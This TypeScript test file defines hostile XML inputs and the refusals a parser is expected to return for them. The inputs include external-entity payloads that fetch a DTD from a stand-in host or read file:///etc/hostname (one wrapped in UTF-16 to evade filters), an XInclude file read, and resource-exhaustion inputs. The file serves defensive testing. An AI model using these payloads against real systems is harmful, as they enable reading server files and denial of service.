import { type Expected, type HostileFile, hostile, SECRET, utf16 } from './hostile-file.ts'
import { xmlReturn } from './xml-return.ts'

const broken: Expected = { outcome: 'refused', reason: 'xml-broken' }
const doctype: Expected = { outcome: 'refused', reason: 'xml-doctype' }
const strange: Expected = { outcome: 'refused', reason: 'not-recognised' }
const RETURN = xmlReturn((text) => text.replace('A1', SECRET))
const changed = (from: string, to: string) => RETURN.replace(from, () => to)
const declared = (inside: string) => changed('<EXPSSDA903>', `<!DOCTYPE EXPSSDA903 ${inside}>\n<EXPSSDA903>`)

/** XML made to fetch, to grow, or to be read in two ways. */
export const xmlAttacks: readonly HostileFile[] = [
  hostile(
    'attack-parameter-entity.xml',
    'a parameter entity that would send a file away',
    declared('[<!ENTITY % a SYSTEM "http://a.example/x.dtd"> %a;]'),
    doctype,
  ),
  hostile(
    'attack-outside-type.xml',
    'a document type that stands elsewhere',
    declared('SYSTEM "http://a.example/x.dtd"'),
    doctype,
  ),
  hostile(
    'attack-type-unclosed.xml',
    'a document type that never ends',
    changed('<EXPSSDA903>', `<!DOCTYPE x [${'<!ENTITY a "b">'.repeat(10)}`),
    doctype,
  ),
  hostile(
    'attack-type-16.xml',
    'a document type in UTF-16, to slip past filters',
    utf16(`\uFEFF${declared('[<!ENTITY x SYSTEM "file:///etc/hostname">]')}`),
    doctype,
  ),
  hostile(
    'attack-entity-undeclared.xml',
    'an entity that nobody declared',
    changed(SECRET, `&x;${SECRET}`),
    broken,
  ),
  hostile(
    'attack-wrong-root.xml',
    'a first element of another form',
    '<?xml version="1.0"?>\n<Message><Header><ID>1</ID></Header></Message>',
    strange,
  ),
  hostile(
    'attack-root-as-attribute.xml',
    'the name of the form in an attribute alone',
    '<x EXPSSDA903="EXPSSDA903"/>',
    strange,
  ),
  hostile(
    'attack-root-small.xml',
    'the first element in small letters',
    RETURN.replaceAll('EXPSSDA903', 'expssda903'),
    strange,
  ),
  hostile(
    'attack-deep-nesting.xml',
    'two hundred thousand elements in one another',
    () => `<EXPSSDA903>${'<a>'.repeat(200_000)}${'</a>'.repeat(200_000)}</EXPSSDA903>`,
    {
      outcome: 'refused',
      reason: 'xml-too-deep',
    },
  ),
  hostile(
    'attack-attribute-flood.xml',
    'an element with a hundred thousand attributes',
    () => changed('<CHILD>', `<CHILD ${Array.from({ length: 100_000 }, (_, at) => `a${at}="1"`).join(' ')}>`),
    {
      outcome: 'refused',
      reason: 'xml-too-many-attributes',
    },
  ),
  hostile(
    'attack-attribute-twice.xml',
    'an attribute that stands twice',
    changed('<CHILD>', '<CHILD a="1" a="2">'),
    broken,
  ),
  hostile(
    'attack-endless-comment.xml',
    'a comment of ten megabytes',
    () => changed('<CHILD>', `<!--${'x'.repeat(10 * 1024 * 1024)}--><CHILD>`),
    {
      outcome: 'refused',
      reason: 'xml-too-long',
    },
  ),
  hostile(
    'attack-endless-name.xml',
    'an element with a name of ten megabytes',
    () => changed('<CHILD>', `<${'x'.repeat(10 * 1024 * 1024)}><CHILD>`),
    {
      outcome: 'refused',
      reason: 'xml-too-long',
    },
  ),
  hostile('attack-nul.xml', 'a NUL in a cell, which XML forbids', changed(SECRET, `${SECRET}\0`), broken),
  hostile('attack-number-of-nul.xml', 'a NUL written by number', changed(SECRET, `${SECRET}&#0;`), broken),
  hostile(
    'attack-number-too-large.xml',
    'a letter with a number there is not',
    changed(SECRET, `${SECRET}&#x110000;`),
    broken,
  ),
  hostile('attack-crossed.xml', 'elements that cross', changed('</HEADER>', '</CHILD></HEADER>'), broken),
  hostile('attack-bare-sign.xml', 'a bare & and a bare <', changed(SECRET, `${SECRET} & Sons <5`), broken),
  hostile(
    'attack-two-roots.xml',
    'two returns one behind the other',
    RETURN + RETURN.replace(/<\?xml.*\?>\n/, ''),
    broken,
  ),
  hostile('attack-end-first.xml', 'an end before any beginning', `</EXPSSDA903>${RETURN}`, strange),
  hostile(
    'attack-declaration-alone.xml',
    'a declaration and nothing else',
    '<?xml version="1.0" encoding="UTF-8"?>',
    broken,
  ),
  hostile(
    'attack-xinclude.xml',
    'an element that asks for another file',
    `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/hostname"/>`,
    strange,
  ),
]
